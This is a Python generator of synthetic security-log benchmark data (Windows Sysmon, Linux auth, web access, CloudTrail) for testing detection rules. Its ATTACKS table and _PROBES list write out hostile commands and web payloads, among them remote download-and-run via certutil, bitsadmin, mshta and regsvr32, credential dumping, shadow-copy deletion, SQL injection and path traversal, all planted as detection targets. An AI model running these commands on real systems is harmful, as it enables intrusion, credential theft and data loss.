"""Mixed, realistic benchmark events: Sysmon-heavy Windows, Linux auth, web access and CloudTrail files.

Windows events are real records from `../shared/data/windows` (OTRF exports, EVTX-ATTACK-SAMPLES, the SigmaHQ
regression cases) used as templates, each copy with a new time and new volatile values (GUIDs, hex ids, long
numbers, host and user names), plus synthesised Sysmon process creations whose command lines come from ~60
program profiles with random arguments (SOC data repeats command lines a lot, but never one string). The files
are written in the sources' own formats and ingested through the suite, so what is stored is what the suite
would store. Deterministic for a given `seed`; the `Message` text of exports is dropped (no rule reads it).
"""

# ruff: noqa: E501  (the profile and log-line tables read best one record per line)

from __future__ import annotations

import base64
import gzip
import json
import random
import re
import zipfile
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from datetime import datetime, timedelta
from pathlib import Path
from typing import Any

SHARED = Path(__file__).resolve().parents[2] / "shared" / "data"
SYSMON = "Microsoft-Windows-Sysmon/Operational"

SHARE = {"windows": 0.70, "linux-auth": 0.12, "web-access": 0.12, "cloudtrail": 0.06}
"""Share of each source in the mix."""
PROCESS_CREATION_SHARE = 0.22
"""Share of synthesised Sysmon process creations among Windows events (the rest are mutated real records)."""
ATTACK_SHARE = 0.002
"""Share of Windows events copied from the attack samples and regression cases (what rules should find)."""

_GUID = re.compile(r"[0-9A-Fa-f]{8}-[0-9A-Fa-f]{4}-[0-9A-Fa-f]{4}-[0-9A-Fa-f]{4}-[0-9A-Fa-f]{12}")
_HEX = re.compile(r"0x[0-9A-Fa-f]{3,}")
_LONG_NUMBER = re.compile(r"(?<![\w.])\d{4,}(?![\w.])")
_USER_PATH = re.compile(r"(?i)(\\Users\\)([^\\\"]+)")
_KEEP = frozenset(
    {"EventID", "Channel", "SourceName", "ProviderGuid", "Level", "Task", "Keywords", "Opcode", "Version"}
)
_DROP = frozenset({"Message", "EventTime", "EventReceivedTime", "@timestamp", "@version", "TimeCreated", "UtcTime"})

USERS = [f"{first}.{last}" for first in ("anna", "ben", "chen", "dara", "emil", "fatma", "gus", "hana", "ivan", "jo")
         for last in ("smith", "khan", "li", "novak", "silva", "ito", "berg", "mayer", "rossi", "adams")]  # fmt: skip
HOSTS = [f"{kind}-{n:03d}.corp.example" for kind in ("wks", "lap", "srv", "dc") for n in range(60)]


@dataclass(frozen=True)
class Profile:
    """A program that Sysmon sees start: image, usual parent, argument templates ({r} fields are random)."""

    image: str
    parent: str
    args: tuple[str, ...]


PROFILES = [
    Profile(r"C:\Windows\System32\svchost.exe", r"C:\Windows\System32\services.exe",
            ("-k netsvcs -p -s {svc}", "-k LocalServiceNetworkRestricted -p -s {svc}", "-k DcomLaunch -p",
             "-k UnistackSvcGroup -s CDPUserSvc_{hex5}", "-k wsappx -p -s AppXSvc")),
    Profile(r"C:\Program Files\Google\Chrome\Application\chrome.exe",
            r"C:\Program Files\Google\Chrome\Application\chrome.exe",
            ("--type=renderer --field-trial-handle={n},{hex16},{n} --lang=en-US --renderer-client-id={n} "
             "--mojo-platform-channel-handle={n} /prefetch:1",
             "--type=utility --utility-sub-type=network.mojom.NetworkService --lang=en-US --service-sandbox-type=none "
             "--mojo-platform-channel-handle={n} --field-trial-handle={n},{hex16} /prefetch:8",
             "--type=gpu-process --gpu-preferences={b64} --mojo-platform-channel-handle={n} /prefetch:2")),
    Profile(r"C:\Program Files (x86)\Microsoft\Edge\Application\msedge.exe", r"C:\Windows\explorer.exe",
            ("--single-argument https://{site}/{path}", "--profile-directory=Default",
             "--type=renderer --instant-process --lang=en-US --renderer-client-id={n} /prefetch:1")),
    Profile(r"C:\Windows\System32\conhost.exe", r"C:\Windows\System32\cmd.exe", ("0xffffffff -ForceV1", "")),
    Profile(r"C:\Windows\System32\cmd.exe", r"C:\Windows\explorer.exe",
            ('/c "C:\\ProgramData\\{vendor}\\scripts\\{word}_{n}.bat"', "/c dir C:\\Users\\{user}\\Documents /s",
             '/c echo {word} > C:\\Users\\{user}\\AppData\\Local\\Temp\\{word}{n}.txt', "/c ipconfig /all",
             '/d /c "C:\\Program Files\\{vendor}\\bin\\update.cmd" --channel stable --build {n}')),
    Profile(r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe", r"C:\Windows\System32\cmd.exe",
            ("-NoProfile -ExecutionPolicy RemoteSigned -File C:\\ProgramData\\{vendor}\\{word}{n}.ps1",
             "-NoLogo -NonInteractive -Command Get-Service -Name {svc} | Select-Object Status",
             '-Command "& {Get-ChildItem C:\\Users\\{user}\\Downloads -Filter *.{ext} | Measure-Object}"')),
    Profile(r"C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE", r"C:\Windows\explorer.exe",
            ('/n "C:\\Users\\{user}\\Documents\\{word} report {n}.docx"', '/n "\\\\fs{n2}\\share\\{word}.docx" /o ""')),
    Profile(r"C:\Program Files\Microsoft Office\root\Office16\EXCEL.EXE", r"C:\Windows\explorer.exe",
            ('"C:\\Users\\{user}\\OneDrive - Example\\{word}_{n}.xlsx"',)),
    Profile(r"C:\Program Files\Microsoft Office\root\Office16\OUTLOOK.EXE", r"C:\Windows\explorer.exe",
            ("", "/recycle", '/select "outlook:{hex16}"')),
    Profile(r"C:\Windows\System32\RuntimeBroker.exe", r"C:\Windows\System32\svchost.exe", ("-Embedding",)),
    Profile(r"C:\Windows\System32\dllhost.exe", r"C:\Windows\System32\svchost.exe", ("/Processid:{bguid}",)),
    Profile(r"C:\Windows\System32\taskhostw.exe", r"C:\Windows\System32\svchost.exe", ("", "{word} /{n}")),
    Profile(r"C:\Windows\System32\backgroundTaskHost.exe", r"C:\Windows\System32\svchost.exe",
            ("-ServerName:App.AppX{hex16}.mca", "-ServerName:BackgroundTaskHost.WebAccountProvider")),
    Profile(r"C:\Windows\System32\SearchProtocolHost.exe", r"C:\Windows\System32\SearchIndexer.exe",
            ('Global\\UsGthrFltPipeMssGthrPipe{n}_ Global\\UsGthrCtrlFltPipeMssGthrPipe{n} 1 -2147483646 '
             '"Software\\Microsoft\\Windows Search" "Mozilla/4.0 (compatible; MSIE 6.0; Windows NT; MS Search 4.0 '
             'Robot)" "C:\\ProgramData\\Microsoft\\Search\\Data\\Temp\\usgthrsvc" "DownLevelDaemon"',)),
    Profile(r"C:\Windows\System32\msiexec.exe", r"C:\Windows\System32\services.exe",
            ("/V", "-Embedding {hex16} E Global\\MSI{n}", '/i "C:\\Windows\\Temp\\{vendor}-{n}.msi" /qn')),
    Profile(r"C:\Program Files\Git\cmd\git.exe", r"C:\Program Files\Microsoft VS Code\Code.exe",
            ("fetch --all --prune", "status -z -uall", "log --oneline -n {n2} origin/{word}", "rev-parse HEAD")),
    Profile(r"C:\Program Files\Microsoft VS Code\Code.exe", r"C:\Windows\explorer.exe",
            ('"C:\\Users\\{user}\\src\\{word}"', "--type=renderer --node-integration-in-worker --client-id={n}")),
    Profile(r"C:\Users\{user}\AppData\Local\Programs\Python\Python311\python.exe", r"C:\Windows\System32\cmd.exe",
            ("-m pip install --upgrade {word}", "C:\\Users\\{user}\\src\\{word}\\manage.py runserver {n}",
             "-m pytest -q tests\\{word}")),
    Profile(r"C:\Program Files\nodejs\node.exe", r"C:\Windows\System32\cmd.exe",
            ('"C:\\Users\\{user}\\src\\{word}\\node_modules\\.bin\\..\\vite\\bin\\vite.js" --port {n}',)),
    Profile(r"C:\Program Files\Java\jdk-17\bin\java.exe", r"C:\Windows\System32\services.exe",
            ("-Xmx{n2}m -jar C:\\opt\\{word}\\{word}-{n}.jar --spring.profiles.active=prod",)),
    Profile(r"C:\Windows\System32\wuauclt.exe", r"C:\Windows\System32\svchost.exe",
            ("/UpdateDeploymentProvider UpdateDeploymentProvider.dll /ClassId {guid} /RunHandlerComServer",)),
    Profile(r"C:\ProgramData\Microsoft\Windows Defender\Platform\4.18.{n}.7-0\MsMpEng.exe",
            r"C:\Windows\System32\services.exe", ("",)),
    Profile(r"C:\Program Files\Windows Defender\MpCmdRun.exe", r"C:\Windows\System32\svchost.exe",
            ("-wdenable", "SignatureUpdate -ScheduleJob -RestrictPrivileges", "-IdleTask -TaskName WdCacheMaintenance")),
    Profile(r"C:\Windows\System32\net.exe", r"C:\Windows\System32\cmd.exe",
            ("use \\\\fs{n2}\\{word} /persistent:no", "view \\\\srv-{n2}", "time \\\\dc-00{n1}")),
    Profile(r"C:\Windows\System32\reg.exe", r"C:\Windows\System32\cmd.exe",
            ('query "HKCU\\Software\\{vendor}\\{word}" /v Version', 'query HKLM\\SOFTWARE\\{vendor} /s')),
    Profile(r"C:\Windows\System32\schtasks.exe", r"C:\Windows\System32\cmd.exe",
            ('/query /tn "\\{vendor}\\{word}" /fo LIST', "/run /tn \\{vendor}\\Update{n}")),
    Profile(r"C:\Windows\System32\tasklist.exe", r"C:\Windows\System32\cmd.exe", ("/fi \"imagename eq {word}.exe\"",)),
    Profile(r"C:\Windows\System32\PING.EXE", r"C:\Windows\System32\cmd.exe", ("-n 1 {ip}", "{site}")),
    Profile(r"C:\Windows\System32\rundll32.exe", r"C:\Windows\explorer.exe",
            ("shell32.dll,Control_RunDLL C:\\Windows\\System32\\{word}.cpl",
             "C:\\Windows\\System32\\shell32.dll,SHCreateLocalServerRunDll {bguid} -Embedding",
             "printui.dll,PrintUIEntry /in /n \\\\print-{n2}\\floor{n1}")),
    Profile(r"C:\Windows\explorer.exe", r"C:\Windows\System32\userinit.exe",
            ("", '/select,"C:\\Users\\{user}\\Downloads\\{word}.{ext}"')),
    Profile(r"C:\Windows\System32\notepad.exe", r"C:\Windows\explorer.exe",
            ('"C:\\Users\\{user}\\Desktop\\{word}-{n}.txt"',)),
    Profile(r"C:\Program Files\7-Zip\7z.exe", r"C:\Windows\explorer.exe",
            ('x "C:\\Users\\{user}\\Downloads\\{word}-{n}.zip" -o"C:\\Users\\{user}\\Downloads\\{word}"',)),
    Profile(r"C:\Windows\System32\robocopy.exe", r"C:\Windows\System32\cmd.exe",
            ("C:\\data\\{word} \\\\backup-{n2}\\{word} /MIR /R:1 /W:1 /LOG:C:\\logs\\robocopy-{n}.log",)),
    Profile(r"C:\Windows\System32\sc.exe", r"C:\Windows\System32\cmd.exe", ("query {svc}", "qc {svc}")),
    Profile(r"C:\Windows\System32\wbem\WmiPrvSE.exe", r"C:\Windows\System32\svchost.exe",
            ("-secured -Embedding", "-Embedding")),
    Profile(r"C:\Program Files\Microsoft\Teams\current\Teams.exe", r"C:\Windows\explorer.exe",
            ("--type=renderer --autoplay-policy=no-user-gesture-required --lang=en-US --renderer-client-id={n}",
             "--system-initiated")),
    Profile(r"C:\Windows\System32\SearchIndexer.exe", r"C:\Windows\System32\services.exe", ("/Embedding",)),
    Profile(r"C:\Windows\System32\spoolsv.exe", r"C:\Windows\System32\services.exe", ("",)),
    Profile(r"C:\Program Files\{vendor}\Agent\agent.exe", r"C:\Windows\System32\services.exe",
            ("--config C:\\ProgramData\\{vendor}\\agent.yaml --log-level info --instance {n}",)),
    Profile(r"C:\Windows\System32\curl.exe", r"C:\Windows\System32\cmd.exe",
            ("-s https://{site}/api/v{n1}/{word}?id={n}", "-o C:\\Users\\{user}\\Downloads\\{word}.{ext} https://{site}")),
    Profile(r"C:\Windows\System32\whoami.exe", r"C:\Windows\System32\cmd.exe", ("", "/upn")),
    Profile(r"C:\Windows\System32\gpupdate.exe", r"C:\Windows\System32\svchost.exe", ("/target:computer /force",)),
    Profile(r"C:\Windows\System32\msiexec.exe", r"C:\Windows\System32\msiexec.exe", ("-Embedding {hex16} C",)),
    Profile(r"C:\Windows\SysWOW64\OneDriveSetup.exe", r"C:\Windows\explorer.exe", ("/thfirstsetup", "/update")),
    Profile(r"C:\Users\{user}\AppData\Local\Microsoft\OneDrive\OneDrive.exe", r"C:\Windows\explorer.exe",
            ("/background", "/updateInstalled /background")),
]  # fmt: skip

ATTACKS = [
    (r"C:\Windows\System32\certutil.exe", "certutil -urlcache -split -f http://{ip}/{word}.exe C:\\Users\\Public\\{word}.exe"),
    (r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe", "powershell -nop -w hidden -enc {b64}"),
    (r"C:\Windows\System32\rundll32.exe", "rundll32.exe C:\\windows\\System32\\comsvcs.dll, MiniDump {n} C:\\temp\\{word}.dmp full"),
    (r"C:\Windows\System32\mshta.exe", "mshta http://{ip}/{word}.hta"),
    (r"C:\Windows\System32\regsvr32.exe", "regsvr32 /s /n /u /i:http://{ip}/{word}.sct scrobj.dll"),
    (r"C:\Windows\System32\vssadmin.exe", "vssadmin delete shadows /all /quiet"),
    (r"C:\Windows\System32\net.exe", "net user {word} P@ssw0rd{n} /add"),
    (r"C:\Windows\System32\bitsadmin.exe", "bitsadmin /transfer {word} /download /priority high http://{ip}/{word}.ps1 C:\\Users\\Public\\{word}.ps1"),
    (r"C:\Windows\System32\schtasks.exe", 'schtasks /create /sc minute /mo 5 /tn "{word}" /tr "C:\\Users\\Public\\{word}.exe" /ru SYSTEM'),
    (r"C:\Windows\System32\wbem\WMIC.exe", "wmic /node:{ip} process call create \"cmd.exe /c {word}.bat\""),
]  # fmt: skip

WORDS = ("alpha", "budget", "orion", "q3", "invoice", "deploy", "notes", "backup", "vega", "atlas", "draft",
         "metrics", "sync", "payroll", "lambda", "report", "setup", "client", "kernel", "zeta")  # fmt: skip
VENDORS = ("Contoso", "Fabrikam", "Tailspin", "Northwind", "Litware", "Adatum", "Proseware")
SERVICES = ("Schedule", "BITS", "wuauserv", "Dnscache", "LanmanWorkstation", "WinRM", "CryptSvc", "EventLog", "Appinfo")
SITES = ("login.microsoftonline.com", "github.com", "intranet.corp.example", "cdn.example.net", "api.example.com")
EXTENSIONS = ("pdf", "docx", "zip", "csv", "png", "msi", "json")


class Volatile:
    """Random values for templates and for the volatile parts of copied records (one seeded RNG)."""

    def __init__(self, rng: random.Random) -> None:
        self.rng = rng

    def guid(self) -> str:
        """A random GUID in upper case, as Windows writes them."""
        return "-".join(f"{self.rng.getrandbits(4 * w):0{w}X}" for w in (8, 4, 4, 4, 12))

    def fill(self, template: str, user: str) -> str:
        """A profile template with every `{name}` replaced by a fresh random value."""
        r = self.rng
        values: dict[str, Callable[[], str]] = {
            "n": lambda: str(r.randint(100, 99999)),
            "n1": lambda: str(r.randint(1, 9)),
            "n2": lambda: str(r.randint(10, 99)),
            "hex5": lambda: f"{r.getrandbits(20):05x}",
            "hex16": lambda: f"{r.getrandbits(64):016x}",
            "guid": self.guid,
            "bguid": lambda: "{" + self.guid() + "}",
            "b64": lambda: base64.b64encode(r.randbytes(r.randint(24, 90))).decode(),
            "word": lambda: r.choice(WORDS),
            "vendor": lambda: r.choice(VENDORS),
            "svc": lambda: r.choice(SERVICES),
            "site": lambda: r.choice(SITES),
            "path": lambda: "/".join(r.choice(WORDS) for _ in range(r.randint(1, 3))),
            "ext": lambda: r.choice(EXTENSIONS),
            "ip": lambda: f"{r.randint(11, 223)}.{r.randint(0, 255)}.{r.randint(0, 255)}.{r.randint(1, 254)}",
            "user": lambda: user,
        }
        return re.sub(r"\{(\w+)\}", lambda m: values[m.group(1)]() if m.group(1) in values else m.group(0), template)

    def mutate(self, value: str, user: str) -> str:
        """A copied string with new GUIDs, hex ids, long numbers and user folder."""
        value = _GUID.sub(lambda _: self.guid(), value)
        value = _HEX.sub(lambda m: f"0x{self.rng.getrandbits(4 * (len(m.group(0)) - 2)):x}", value)
        value = _LONG_NUMBER.sub(
            lambda m: str(self.rng.randint(10 ** (len(m.group(0)) - 1), 10 ** len(m.group(0)) - 1)), value
        )
        return _USER_PATH.sub(lambda m: m.group(1) + user, value)


def _flat_records() -> Iterator[dict[str, Any]]:
    for archive in sorted((SHARED / "windows" / "otrf").glob("*.zip")):
        with zipfile.ZipFile(archive) as zf:
            for member in zf.namelist():
                if member.endswith("/"):
                    continue
                for line in zf.open(member):
                    if line.strip():
                        yield json.loads(line)


def _evtx_dump_records(folder: Path, pattern: str) -> Iterator[dict[str, Any]]:
    for path in sorted(folder.rglob(pattern)):
        opener = gzip.open if path.suffix == ".gz" else open
        with opener(path, "rt", encoding="utf-8") as stream:  # type: ignore[operator]
            text = stream.read()
        decoder, at = json.JSONDecoder(), 0
        while True:  # JSON lines, a JSON array, or pretty-printed documents one after another
            while at < len(text) and text[at].isspace():
                at += 1
            if at >= len(text):
                break
            loaded, at = decoder.raw_decode(text, at)
            yield from loaded if isinstance(loaded, list) else [loaded]


@dataclass
class Templates:
    """Real records to copy: common ones by channel, and the attack ones."""

    sysmon: list[dict[str, Any]]
    other: list[dict[str, Any]]
    attacks: list[dict[str, Any]]


def load_templates() -> Templates:
    """Every flat OTRF record (by channel) and every evtx_dump record of the attack samples and regression cases."""
    sysmon: list[dict[str, Any]] = []
    other: list[dict[str, Any]] = []
    for record in _flat_records():
        slim = {k: v for k, v in record.items() if k not in _DROP}
        (sysmon if record.get("Channel") == SYSMON else other).append(slim)
    attacks = list(_evtx_dump_records(SHARED / "windows" / "evtx_attack_samples", "*.jsonl*"))
    attacks += list(_evtx_dump_records(SHARED / "windows" / "sigma_regression", "*.json"))
    if not sysmon or not attacks:
        raise FileNotFoundError(f"no Windows templates under {SHARED / 'windows'}")
    return Templates(sysmon, other, attacks)


def _iso(ts: datetime) -> str:
    return ts.strftime("%Y-%m-%dT%H:%M:%S.%f")[:-3] + "Z"


def _copy_flat(record: dict[str, Any], ts: datetime, vol: Volatile, host: str, user: str, seq: int) -> dict[str, Any]:
    out: dict[str, Any] = {}
    for key, value in record.items():
        out[key] = vol.mutate(value, user) if isinstance(value, str) and key not in _KEEP else value
    out["Hostname"] = host
    out["TimeCreated"] = _iso(ts)
    out["RecordNumber"] = seq
    return out


def _copy_evtx_dump(record: dict[str, Any], ts: datetime, vol: Volatile, user: str, seq: int) -> dict[str, Any]:
    event = json.loads(json.dumps(record))
    system = event["Event"]["System"]
    system["TimeCreated"] = {"#attributes": {"SystemTime": ts.strftime("%Y-%m-%dT%H:%M:%S.%fZ")}}
    system["EventRecordID"] = seq
    data = event["Event"].get("EventData")
    if isinstance(data, dict):
        for key, value in data.items():
            if isinstance(value, str) and key in ("ProcessGuid", "ParentProcessGuid", "LogonGuid", "ProcessId"):
                data[key] = vol.mutate(value, user)
    return event


def _process_creation(ts: datetime, vol: Volatile, host: str, user: str, seq: int) -> dict[str, Any]:
    r = vol.rng
    if r.random() < 0.01:
        image, command_line = r.choice(ATTACKS)
        image, command_line = vol.fill(image, user), vol.fill(command_line, user)
        parent = r"C:\Windows\System32\cmd.exe"
    else:
        profile = r.choice(PROFILES)
        image, parent = vol.fill(profile.image, user), vol.fill(profile.parent, user)
        args = vol.fill(r.choice(profile.args), user)
        shown = f'"{image}"' if " " in image or r.random() < 0.5 else image
        command_line = f"{shown} {args}".rstrip()
    return {
        "SourceName": "Microsoft-Windows-Sysmon", "ProviderGuid": "{5770385F-C22A-43E0-BF4C-06F5698FFBD9}",
        "Level": "4", "Channel": SYSMON, "Hostname": host, "TimeCreated": _iso(ts), "EventID": 1, "Task": "1",
        "RecordNumber": seq, "RuleName": "-", "UtcTime": ts.strftime("%Y-%m-%d %H:%M:%S.%f")[:-3],
        "ProcessGuid": "{" + vol.guid() + "}", "ProcessId": str(r.randint(100, 60000)), "Image": image,
        "FileVersion": f"10.0.{r.randint(17763, 22631)}.1", "Description": Path(image.replace("\\", "/")).stem,
        "Product": "Microsoft® Windows® Operating System", "Company": "Microsoft Corporation",
        "OriginalFileName": Path(image.replace("\\", "/")).name, "CommandLine": command_line,
        "CurrentDirectory": f"C:\\Users\\{user}\\", "User": f"CORP\\{user}",
        "LogonGuid": "{" + vol.guid() + "}", "LogonId": f"0x{r.getrandbits(24):x}", "TerminalSessionId": "1",
        "IntegrityLevel": r.choice(("Medium", "High", "System")),
        "Hashes": f"SHA1={r.getrandbits(160):040X},MD5={r.getrandbits(128):032X},IMPHASH={r.getrandbits(128):032X}",
        "ParentProcessGuid": "{" + vol.guid() + "}", "ParentProcessId": str(r.randint(100, 60000)),
        "ParentImage": parent, "ParentCommandLine": parent, "ParentUser": f"CORP\\{user}",
    }  # fmt: skip


def write_windows(path: Path, count: int, start: datetime, span: timedelta, seed: int, templates: Templates) -> None:
    """`count` Windows events as JSON lines (flat and evtx_dump records mixed), times spread over `span`."""
    vol = Volatile(random.Random(seed))
    r = vol.rng
    step = span / max(count, 1)
    with path.open("w") as out:
        for i in range(count):
            ts = start + step * i
            host, user = r.choice(HOSTS), r.choice(USERS)
            roll = r.random()
            if roll < ATTACK_SHARE:
                record = _copy_evtx_dump(r.choice(templates.attacks), ts, vol, user, i)
            elif roll < ATTACK_SHARE + PROCESS_CREATION_SHARE:
                record = _process_creation(ts, vol, host, user, i)
            elif roll < 0.75:
                record = _copy_flat(r.choice(templates.sysmon), ts, vol, host, user, i)
            else:
                record = _copy_flat(r.choice(templates.other), ts, vol, host, user, i)
            out.write(json.dumps(record, separators=(",", ":")) + "\n")


def write_auth(path: Path, count: int, start: datetime, span: timedelta, seed: int) -> None:
    """`count` sshd/sudo/cron/useradd lines in syslog format, times spread over `span`."""
    r = random.Random(seed)
    step = span / max(count, 1)
    with path.open("w") as out:
        for i in range(count):
            ts = start + step * i
            host = f"web-{r.randint(0, 29):02d}"
            pid = r.randint(1000, 65000)
            ip = f"{r.choice((10, 203, 198, 45))}.{r.randint(0, 255)}.{r.randint(0, 255)}.{r.randint(1, 254)}"
            roll = r.random()
            if roll < 0.45:
                line = f"sshd[{pid}]: Failed password for invalid user {r.choice(WORDS)}{r.randint(1, 999)} from {ip} port {r.randint(1024, 65535)} ssh2"
            elif roll < 0.65:
                line = f"sshd[{pid}]: Accepted publickey for deploy{r.randint(0, 49)} from {ip} port {r.randint(1024, 65535)} ssh2: RSA SHA256:{base64.b64encode(r.randbytes(32)).decode()[:43]}"
            elif roll < 0.8:
                command = r.choice(
                    (
                        "/usr/bin/systemctl restart app{n}",
                        "/usr/bin/apt-get install -y pkg{n}",
                        "/bin/cat /var/log/app{n}.log",
                    )
                )
                line = f"sudo:    admin{r.randint(0, 9)} : TTY=pts/{r.randint(0, 9)} ; PWD=/home/admin ; USER=root ; COMMAND={command.format(n=r.randint(1, 9999))}"
            elif roll < 0.95:
                line = f"CRON[{pid}]: pam_unix(cron:session): session opened for user root by (uid=0)"
            elif roll < 0.99:
                line = f"sshd[{pid}]: Connection closed by authenticating user root {ip} port {r.randint(1024, 65535)} [preauth]"
            else:
                line = f"useradd[{pid}]: new user: name={r.choice(WORDS)}{r.randint(1, 99)}, UID={r.randint(1001, 3000)}, GID=100, home=/home/x, shell=/bin/bash"
            out.write(f"{ts:%b} {ts.day:2d} {ts:%H:%M:%S} {host} {line}\n")  # fmt: skip


_AGENTS = ("Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0 Safari/537.36",
           "Mozilla/5.0 (X11; Linux x86_64; rv:121.0) Gecko/20100101 Firefox/121.0", "curl/8.5.0",
           "python-requests/2.31.0", "Googlebot/2.1 (+http://www.google.com/bot.html)")  # fmt: skip
_PROBES = ("/login?user=admin' OR '1'='1", "/../../etc/passwd", "/index.php?page=../../../../etc/shadow",
           "/search?q=<script>alert(1)</script>", "/cgi-bin/.%2e/.%2e/bin/sh", "/wp-login.php", "/.env",
           "/shell.php?cmd=whoami")  # fmt: skip


def write_access(path: Path, count: int, start: datetime, span: timedelta, seed: int) -> None:
    """`count` combined-format access lines: mostly benign pages with query strings, some probes and scanners."""
    r = random.Random(seed)
    step = span / max(count, 1)
    with path.open("w") as out:
        for i in range(count):
            ts = start + step * i
            ip = f"{r.randint(11, 223)}.{r.randint(0, 255)}.{r.randint(0, 255)}.{r.randint(1, 254)}"
            if r.random() < 0.01:
                target, agent, status = (
                    r.choice(_PROBES),
                    r.choice(("sqlmap/1.7.2#stable", "Nikto/2.5.0", _AGENTS[2])),
                    404,
                )
            else:
                target = f"/{'/'.join(r.choice(WORDS) for _ in range(r.randint(1, 3)))}?id={r.randint(1, 99999)}&page={r.randint(1, 50)}"
                agent, status = r.choice(_AGENTS), r.choice((200, 200, 200, 304, 302, 404))
            out.write(f'{ip} - - [{ts:%d/%b/%Y:%H:%M:%S} +0000] "{r.choice(("GET", "GET", "POST"))} {target} HTTP/1.1" '
                      f'{status} {r.randint(200, 90000)} "https://{r.choice(SITES)}/" "{agent}"\n')  # fmt: skip


def write_cloudtrail(path: Path, count: int, start: datetime, span: timedelta, seed: int) -> None:
    """`count` CloudTrail records as JSON lines: the Stratus Red Team run's records with new times and ids."""
    records = []
    for file in sorted((SHARED / "cloudtrail" / "invictus_stratus").glob("*.json")):
        records.extend(json.loads(file.read_text()).get("Records", []))
    if not records:
        raise FileNotFoundError(f"no CloudTrail templates under {SHARED / 'cloudtrail'}")
    vol = Volatile(random.Random(seed))
    step = span / max(count, 1)
    with path.open("w") as out:
        for i in range(count):
            record = dict(vol.rng.choice(records))
            record["eventTime"] = (start + step * i).strftime("%Y-%m-%dT%H:%M:%SZ")
            record["eventID"] = vol.guid().lower()
            record["requestID"] = vol.guid()
            out.write(json.dumps(record, separators=(",", ":")) + "\n")


def write_mix(folder: Path, count: int, end: datetime, span: timedelta, seed: int = 13) -> dict[str, Path]:
    """Write the whole mix (`count` events ending at `end`) into `folder`: one file per source."""
    start = end - span
    counts = {source: int(count * share) for source, share in SHARE.items()}
    counts["windows"] += count - sum(counts.values())
    files = {
        "windows": folder / "windows.jsonl",
        "linux-auth": folder / "auth.log",
        "web-access": folder / "access.log",
        "cloudtrail": folder / "cloudtrail.jsonl",
    }
    write_windows(files["windows"], counts["windows"], start, span, seed, load_templates())
    write_auth(files["linux-auth"], counts["linux-auth"], start, span, seed + 1)
    write_access(files["web-access"], counts["web-access"], start, span, seed + 2)
    write_cloudtrail(files["cloudtrail"], counts["cloudtrail"], start, span, seed + 3)
    return files
